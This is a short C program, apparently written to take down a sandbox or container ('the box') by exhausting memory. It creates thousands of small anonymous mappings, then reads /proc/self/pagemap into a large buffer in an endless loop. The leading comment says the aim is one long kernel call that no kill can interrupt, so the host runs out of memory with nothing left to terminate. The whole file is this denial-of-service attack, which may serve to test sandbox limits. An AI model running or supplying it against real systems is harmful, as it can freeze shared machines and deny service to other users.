// Fills its memory by one long call, which no kill interrupts, beside many mappings, of which the kernel frees what it
// has noted at the very end. Until then there is no memory left for the box, and no other to be ended for that.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
    const size_t room = 128 << 20;
    for (int i = 0; i < 30000; ++i) {
        mmap(0, 4096, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    }
    char* const into = mmap(0, room, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    for (;;) {
        const int pages = open("/proc/self/pagemap", O_RDONLY);
        if (read(pages, into, room) < 0) {
            return 1;
        }
        close(pages);
    }
}
